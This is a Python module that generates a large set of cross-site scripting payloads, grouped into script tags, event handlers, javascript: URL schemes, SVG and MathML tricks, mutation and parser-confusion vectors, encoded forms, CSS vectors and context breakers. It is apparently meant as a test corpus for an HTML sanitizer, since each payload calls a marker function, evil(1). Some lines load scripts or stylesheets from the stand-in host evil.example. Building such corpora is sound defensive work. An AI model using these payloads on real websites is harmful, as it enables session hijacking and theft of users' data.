"""Vectors of our own making that try to run a script in a page: `VECTORS`, by kind. Each calls ``evil``."""

from itertools import product

CALL = "evil(1)"
EVENTS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "onanimationstart",
    "ontoggle",
    "onbegin",
    "onpointerenter",
    "onscrollend",
]
# what a browser may still take for javascript:
SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "\tjavascript:", "java\nscript:", "java\tscript:", "java&#9;script:",
    "java&Tab;script:", "&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "javascript&colon;", "\x01javascript:",
    "javascript\x00:", "vbscript:", "data:text/html,<script>", "data:text/html;base64,", "data:image/svg+xml,<svg onload=",
    "view-source:javascript:", "feed:javascript:", "blob:javascript:", "//javascript:", "javascript://%0a",
)  # fmt: skip
URL_PLACES = (
    '<a href="{}">链接</a>', "<a href='{}'>链接</a>", "<img src=\"{}\">", '<iframe src="{}"></iframe>',
    '<form action="{}"><button>去</button></form>', '<button formaction="{}">去</button>', '<object data="{}"></object>',
    '<embed src="{}">', '<video src="{}" controls></video>', '<svg><a xlink:href="{}"><text>a</text></a></svg>',
)  # fmt: skip
TAGS = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script/x>{}</script>", "<script\n>{}</script\n>", "<script src=//evil.example/x.js></script>",
    "<<script>{}//<</script>", "<scr<script>ipt>{}</scr</script>ipt>", "<script>{}", "<script type=module>{}</script>",
    "<script type='text/template'></script><script>{}</script>", "<style><script>{}</script></style>",
    "<title><script>{}</script></title>", "<textarea><script>{}</script></textarea>", "<noscript><script>{}</script></noscript>",
    "<template><script>{}</script></template>", "<iframe srcdoc='&lt;script&gt;{}&lt;/script&gt;'></iframe>",
    "<xmp><script>{}</script></xmp>", "<plaintext><script>{}</script>", "<select><script>{}</script></select>",
    "<table><script>{}</script></table>", "<frameset onload={}>", "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<link rel=stylesheet href='//evil.example/x.css'>",
    "<link rel=import href='//evil.example/x'>", "<object type=text/x-scriptlet data=//evil.example/></object>",
    "<applet code=evil></applet>", "<bgsound src=javascript:{}>", "<marquee onstart={}>走</marquee>", "<keygen autofocus onfocus={}>",
    "<details open ontoggle={}><summary>开</summary></details>", "<dialog open onclose={}>", "<isindex action=javascript:{}>",
    "<portal src=javascript:{}>", "<fencedframe></fencedframe><script>{}</script>", "<x-evil onclick={}>x</x-evil>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}></select>", "<body onload={}>", "<html onclick={}>",
    "<image src=x onerror={}>", "<listing onclick={}>a</listing>", "<command onclick={}>", "<slot onclick={}>a</slot>",
)  # fmt: skip
FOREIGN = (
    "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>", "<svg><script href='data:,{}'/></svg>",
    "<svg><style><img src=x onerror={}></style></svg>", "<svg><foreignObject><script>{}</script></foreignObject></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set attributeName=onload to={}></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'/></svg>", "<svg><image href=x onerror={} /></svg>",
    "<svg><a><animate attributeName=href values=javascript:{} /><text>a</text></a></svg>", "<svg><title><script>{}</script></title></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror={}>\">", "<svg><desc><img src=x onerror={}></desc></svg>",
    "<svg><![CDATA[><img src=x onerror={}>]]></svg>", "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>{}</handler></svg>",
    "<math><mtext><script>{}</script></mtext></math>", "<math href='javascript:{}'>a</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={}&gt;\">",
    "<math><mi//xlink:href='data:x,<script>{}</script>'>", "<math><annotation-xml encoding='text/html'><img src=x onerror={}></annotation-xml></math>",
    "<math><maction actiontype='statusline#' xlink:href='javascript:{}'>a</maction></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={} src>\">",
)  # fmt: skip
MUTATIONS = (
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<img alt=\"`` onerror={}\" src=x>", "<p title='\"><img src=x onerror={}>'>a</p>",
    "<!--<img src=\"--><img src=x onerror={}//\">", "<!--><img src=x onerror={}>-->", "<!--!><img src=x onerror={}>-->", "<![CDATA[<img src=x onerror={}>]]>",
    "<?xml version='1.0'?><img src=x onerror={}>", "<!DOCTYPE x [<!ENTITY a \"<img src=x onerror={}>\">]>&a;", "<%<img src=x onerror={}>%>",
    "<a href='x'><a href=\"javascript:{}\">a</a></a>", "<img src=\"x\" alt=\"\" onerror=\"{}\" onerror=''>", "<img src=x\x00onerror={}>", "<img/src=x/onerror={}>",
    "<img\x0csrc=x\x0conerror={}>", "<img src='x'onerror={}>", "<img \x00onerror={} src=x>", "<img src=x:x onerror\n=\n{}>", "<p/onclick={}>a</p>",
    "<xmp><p title=\"</xmp><img src=x onerror={}>\">", "<style><p title=\"</style><img src=x onerror={}>\">", "<textarea><p title=\"</textarea><img src=x onerror={}>\">",
    "<iframe><p title=\"</iframe><img src=x onerror={}>\">", "<noembed><p title=\"</noembed><img src=x onerror={}>\">", "<table><td><img src=x onerror={}></table>",
    "<select><option><img src=x onerror={}></select>", "<p><table><tr><td></p><img src=x onerror={}>", "<b><i></b><img src=x onerror={}></i>",
    "<template><img src=x onerror={}></template>", "<font color='\"><img src=x onerror={}>'>a</font>", "<a id=x name=y href=x tabindex=1 onfocus={}>a</a>",
)  # fmt: skip
ENTITIES = (
    "&lt;script&gt;{}&lt;/script&gt;", "&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;", "&#60;script&#62;{}&#60;/script&#62;",
    "&#x3c;script&#x3e;{}&#x3c;/script&#x3e;", "&LT;script&GT;{}&LT;/script&GT;", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "%3Cscript%3E{}%3C/script%3E",
    "＜script＞{}＜/script＞", "\u2028<script>{}</script>", "\ufeff<script>{}</script>", "<scrıpt>{}</scrıpt>", "<ſcript>{}</ſcript>", "+ADw-script+AD4-{}+ADw-/script+AD4-",
)  # fmt: skip
STYLES = (
    "<p style='width:expression({})'>a</p>", "<p style=\"background:url(javascript:{})\">a</p>", "<style>@import 'javascript:{}';</style>",
    "<style>*{{background:url('//evil.example/')}}</style>", "<p style='behavior:url(#default#time2)' onbegin={}>a</p>", "<p style=\"-moz-binding:url('//evil.example/x#y')\">a</p>",
    "<style>p{{animation:x}}@keyframes x{{}}</style><p onanimationstart={}>a</p>", "<p style='position:fixed;inset:0'>盖住全页</p>",
)  # fmt: skip
BREAKERS = (
    "\"><script>{}</script>", "'><script>{}</script>", "</title><script>{}</script>", "</script><script>{}</script>", "\" onmouseover={} x=\"", "' onmouseover={} x='",
    "</textarea><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>", "{{{{{}}}}}", "{{% import os %}}{}", "${{{}}}", "javascript:{}", "`{}`", "\\\"-{}-\\\"",
    "</style><script>{}</script>", "<!--<script>{}", "</script", "\";{}//", "</svg><script>{}</script>", "<img src=x onerror={}>", "</time><img src=x onerror={}>",
)  # fmt: skip

VECTORS = {
    "tags": [one.format(CALL) for one in TAGS],
    "events": [f'<{tag} src=x {event}="{CALL}">文</{tag}>' for tag, event in product(("img", "p", "a", "video", "details"), EVENTS)],
    "urls": [place.format(scheme + CALL) for place, scheme in product(URL_PLACES, SCHEMES)],
    "foreign": [one.format(CALL) for one in FOREIGN],
    "mutations": [one.format(CALL) for one in MUTATIONS],
    "entities": [one.format(CALL) for one in ENTITIES],
    "styles": [one.format(CALL) for one in STYLES],
    "breakers": [one.format(CALL) for one in BREAKERS],
}  # fmt: skip
ALL = [vector for kind in VECTORS.values() for vector in kind]
# of every kind some, the shortest way through all of them
SAMPLE = [vector for kind in VECTORS.values() for vector in kind[:: max(1, len(kind) // 15)]]
